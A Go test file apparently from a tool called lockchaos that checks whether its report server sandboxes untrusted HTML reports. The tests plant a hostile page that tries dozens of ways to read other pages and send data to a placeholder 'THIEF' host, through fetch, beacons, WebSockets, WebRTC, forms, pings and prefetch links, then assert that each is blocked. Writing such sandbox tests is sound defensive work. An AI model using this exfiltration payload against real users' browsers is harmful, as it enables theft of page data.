package serve

import (
	"bytes"
	"context"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/lockchaos/lockchaos/checker"
	"github.com/lockchaos/lockchaos/history"
	"github.com/lockchaos/lockchaos/internal/synthetic"
	"github.com/lockchaos/lockchaos/reports"
	"github.com/lockchaos/lockchaos/reports/page"
)

// thief listens for whatever a page sends away, by TCP and by UDP, and notes what arrives.
type thief struct {
	addr, udp string
	mu        sync.Mutex
	got       []string
}

func newThief(t *testing.T) *thief {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	u, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	th := &thief{addr: l.Addr().String(), udp: u.LocalAddr().String()}
	srv := &http.Server{ReadHeaderTimeout: 10 * time.Second,
		Handler: http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { th.note(r.Method + " " + r.URL.String()) }),
		ConnState: func(_ net.Conn, s http.ConnState) {
			if s == http.StateNew {
				th.note("a connection")
			}
		}}
	done := make(chan struct{}, 2)
	go func() { _ = srv.Serve(l); done <- struct{}{} }() // ends with Close
	go func() {
		buf := make([]byte, 1500)
		for {
			n, _, err := u.ReadFrom(buf)
			if err != nil {
				break
			}
			th.note("a packet: " + string(buf[:n]))
		}
		done <- struct{}{}
	}()
	t.Cleanup(func() { srv.Close(); u.Close(); <-done; <-done })
	return th
}

func (th *thief) note(what string) {
	th.mu.Lock()
	defer th.mu.Unlock()
	th.got = append(th.got, what)
}

func (th *thief) all() []string {
	th.mu.Lock()
	defer th.mu.Unlock()
	return append([]string(nil), th.got...)
}

// hostile is a report that tries to read the other pages and to send them away, by
// every way that a page has. What it came to stands in its title and in its text.
const hostile = `<!doctype html><title>begun</title><link rel=prefetch href="http://THIEF/prefetch"><link rel=preload as=image href="http://THIEF/preload"><link rel=preconnect href="http://THIEF"><link rel=dns-prefetch href="//THIEF">
<link rel=stylesheet href="http://THIEF/style"><link rel=modulepreload href="http://THIEF/module"><link rel=manifest href="http://THIEF/manifest"><script src="http://THIEF/script"></script><script type=speculationrules>{"prefetch":[{"urls":["http://THIEF/speculated"]}]}</script>
<style>@font-face{font-family:x;src:url(http://THIEF/font)}body{background:url(http://THIEF/background);font-family:x}</style>
<img src="http://THIEF/img"><video src="http://THIEF/video"></video><object data="http://THIEF/object"></object><embed src="http://THIEF/embed"><iframe src="http://THIEF/frame"></iframe><iframe id=own src="/"></iframe>
<form id=f action="http://THIEF/form" method=post target=_blank><input name=x value=y></form><form id=g action="http://THIEF/form2"></form><a id=ping href="#here" ping="http://THIEF/ping">x</a><a id=blank href="http://THIEF/blank" target=_blank>x</a>
<pre id=out></pre><script>
const out = [], say = (what, how) => out.push(what + ": " + how), THERE = "http://THIEF/";
const attempt = (what, f) => { try { const r = f(); say(what, r === undefined || r === null || r === false ? "nothing" : r); } catch (e) { say(what, "refused"); } };
const wait = (what, p) => Promise.race([p, new Promise(r => setTimeout(r, 3000, "nothing"))]).then(r => say(what, r === undefined ? "nothing" : r), () => say(what, "refused"));
(async () => {
  attempt("origin", () => self.origin === "null" ? null : self.origin);
  attempt("opener", () => window.opener && window.opener.document.body.textContent);
  attempt("parent", () => parent === self ? null : parent.document.body.textContent);
  attempt("own frame", () => document.getElementById("own").contentDocument?.body?.textContent || null);
  attempt("window", () => window.open("/") && "a window");
  attempt("window away", () => window.open(THERE + "window") && "a window");
  attempt("storage", () => localStorage.length + " things");
  attempt("cookie", () => (document.cookie = "a=b", document.cookie));
  attempt("beacon", () => navigator.sendBeacon(THERE + "beacon", "x") ? null : null);
  attempt("base", () => { const b = document.createElement("base"); b.href = THERE; document.head.append(b); const at = document.createElement("a"); at.href = "x"; b.remove(); return at.href.startsWith(THERE) ? "taken" : null; });
  for (const path of ["/", "/events", "/run/old", "/files/old/index.html", "/files/old/run.json", "/compare?run=old&run=new"]) {
    await wait("fetch " + path, fetch(path).then(r => r.text()));
    await wait("fetch quietly " + path, fetch(path, {mode: "no-cors"}).then(r => r.text()));
    await wait("request " + path, new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.responseText); x.onerror = no; x.open("GET", path); x.send(); }));
  }
  await wait("stream", new Promise((ok, no) => { const s = new EventSource("/events"); s.onmessage = m => ok(m.data); s.onerror = no; }));
  await wait("fetch away", fetch(THERE + "fetch", {mode: "no-cors"}).then(() => "sent"));
  await wait("socket", new Promise((ok, no) => { const s = new WebSocket("ws://THIEF/socket"); s.onopen = () => ok("open"); s.onerror = no; }));
  await wait("worker", new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"]))); w.onmessage = m => ok(m.data); w.onerror = no; }));
  await wait("service worker", (async () => (await navigator.serviceWorker.register("/files/old/a/report.html")).scope)());
  await wait("import", import(THERE + "import").then(() => "loaded"));
  await wait("image", new Promise((ok, no) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = no; i.src = THERE + "image?" + document.title; }));
  await wait("webrtc", (async () => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:UDP"}]}); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 1000)); return null; })().then(() => undefined));
  attempt("form", () => document.getElementById("f").submit());
  attempt("form here", () => document.getElementById("g").submit());
  attempt("ping", () => document.getElementById("ping").click());
  attempt("new tab", () => document.getElementById("blank").click());
  await new Promise(r => setTimeout(r, 500));
  document.getElementById("out").textContent = out.join("\n");
  document.title = "done";
})();
</script>`

// A report that somebody sent runs no script. What is written into it sends nothing
// away; that a browser connects ahead to where it points says only that it was opened.
func TestHostileReport(t *testing.T) {
	ctx := chromium(t)
	root := folder(t)
	th := newThief(t)
	th.plant(t, root)
	addr := started(t, root)
	reads(t, ctx, addr)
	await(t, ctx, `document.readyState === "complete" && document.querySelector("pre") !== null`)
	for _, id := range []string{"ping", "blank"} { // a reader who clicks
		if err := chromedp.Do(ctx, chromedp.Click("#"+id)); err != nil {
			t.Fatal(err)
		}
	}
	await(t, ctx, `document.title === "begun" && location.hash === "#here" && document.getElementById("out").textContent === ""`)
	// the browser has had the time to do what it meant to
	if err := chromedp.Do(ctx, chromedp.Navigate("http://"+addr+"/"), chromedp.Navigate("http://"+addr+"/run/old")); err != nil {
		t.Fatal(err)
	}
	for _, what := range th.all() {
		if what != "a connection" {
			t.Errorf("sent away: %q", what)
		}
	}
}

// plant puts the hostile report where a run has its own.
func (th *thief) plant(t *testing.T, root string) {
	t.Helper()
	page := strings.NewReplacer("THIEF", th.addr, "UDP", th.udp).Replace(hostile)
	if err := os.WriteFile(filepath.Join(root, "old", "a", "report.html"), []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
}

// reads goes to the report as a reader does, by a click.
func reads(t *testing.T, ctx context.Context, addr string) {
	t.Helper()
	if err := chromedp.Do(ctx, chromedp.Navigate("http://"+addr+"/run/old"), chromedp.Click("#scenarios a")); err != nil {
		t.Fatal(err)
	}
	await(t, ctx, `location.pathname === "/files/old/a/report.html"`)
}

// Should a script run all the same, it has an origin of its own, from which nothing can
// be read; and of the ways to send something away those are left that no policy knows of.
func TestHostileScript(t *testing.T) {
	ctx := chromium(t)
	root := folder(t)
	th := newThief(t)
	th.plant(t, root)
	s, err := New(root)
	if err != nil {
		t.Fatal(err)
	}
	s.scripts = "'unsafe-inline'"
	reads(t, ctx, serving(t, s))
	await(t, ctx, `document.title === "done"`)
	said, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.getElementById("out").textContent`))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(said, "\n")
	if len(lines) < 35 {
		t.Errorf("only %d ways were tried:\n%s", len(lines), said)
	}
	for _, line := range lines {
		if !strings.HasSuffix(line, ": refused") && !strings.HasSuffix(line, ": nothing") {
			t.Error(line)
		}
	}
	for _, what := range th.all() {
		// of STUN: a request to bind
		if what != "a connection" && what != "GET /speculated" && !strings.HasPrefix(what, "a packet: \x00\x01\x00\x00") {
			t.Errorf("sent away: %q", what)
		}
	}
}

// What lockchaos writes works as it does in a file: the index filters, its links lead
// to reports, a report's timeline moves, the address keeps the view, data can be saved.
func TestReportsWorkUnderTheSandbox(t *testing.T) {
	ctx := chromium(t)
	root := t.TempDir()
	sc := written(t, filepath.Join(root, "real"))
	addr := started(t, root)
	do := func(actions ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		if err := chromedp.Do(ctx, actions...); err != nil {
			t.Fatal(err)
		}
	}
	do(chromedp.EmulateViewport(1280, 1000), chromedp.Navigate("http://"+addr+"/files/real/index.html#result=corrupted"))
	await(t, ctx, `self.origin === "null" && document.documentElement.classList.contains("scripted")`)
	do(chromedp.Navigate("http://" + addr + "/files/real/" + sc.Dir + "/report.html"))
	await(t, ctx, `document.readyState === "complete" && !document.getElementById("live").hidden`)
	do(chromedp.Click(`#live button[value="in"]`))
	await(t, ctx, `/t=/.test(location.hash)`)
	if _, err := chromedp.Run(ctx, chromedp.Evaluate[bool](`(() => { window.saved = []; const made = URL.createObjectURL;
		URL.createObjectURL = blob => { blob.text().then(text => window.saved.push(text)); return made.call(URL, blob); }; return true; })()`)); err != nil {
		t.Fatal(err)
	}
	do(chromedp.Click(`a[download="history.jsonl.gz"]`))
	await(t, ctx, `window.saved.length === 1 && window.saved[0].includes("invoke")`)
	view, err := chromedp.Run(ctx, chromedp.Evaluate[string](`location.href`))
	if err != nil {
		t.Fatal(err)
	}
	caption, err := chromedp.Run(ctx, chromedp.Evaluate[string](`document.querySelector("#live .caption").textContent`))
	if err != nil {
		t.Fatal(err)
	}
	do(chromedp.Navigate("http://"+addr+"/"), chromedp.Navigate(view))
	await(t, ctx, `document.querySelector("#live .caption")?.textContent === `+"`"+caption+"`")
	do(chromedp.Click(`a[href$="index.html"]`))
	await(t, ctx, `location.pathname === "/files/real/index.html" && document.readyState === "complete"`)
	do(chromedp.Click(`a.cell.v`))
	await(t, ctx, `location.pathname.endsWith("/report.html") && document.readyState === "complete"`)
}

// written writes a run with one scenario, of a history in which violations are
// planted, as lockchaos writes it.
func written(t *testing.T, dir string) reports.Scenario {
	t.Helper()
	var text bytes.Buffer
	c := synthetic.Config{Events: 4000, Clients: 4, Bad: 3, Seed: 7}
	header, keys, err := synthetic.Header(c)
	if err != nil {
		t.Fatal(err)
	}
	enc, err := history.NewEncoder(&text, header, keys)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := synthetic.Generate(c, enc.Encode); err != nil {
		t.Fatal(err)
	}
	sc := reports.Scenario{Name: "made-up/none/unfenced", Dir: "made-up.none.unfenced", Lock: "made-up", Fault: "none",
		Store: "unfenced", Run: "made"}
	folder := filepath.Join(dir, sc.Dir)
	if err := os.MkdirAll(folder, 0o755); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(folder, "history.jsonl")
	if err := os.WriteFile(file, text.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	if sc.History, err = history.ReadFile(file); err != nil {
		t.Fatal(err)
	}
	sc.Verdict = checker.Judge(sc.History, checker.Options{Keep: reports.KeptViolations})
	if err := page.WriteFolder(folder, sc); err != nil {
		t.Fatal(err)
	}
	f, err := os.Create(filepath.Join(dir, "index.html"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if err := page.WriteIndex(f, reports.Suite{Name: "made", Scenarios: []reports.Scenario{sc}}); err != nil {
		t.Fatal(err)
	}
	return sc
}
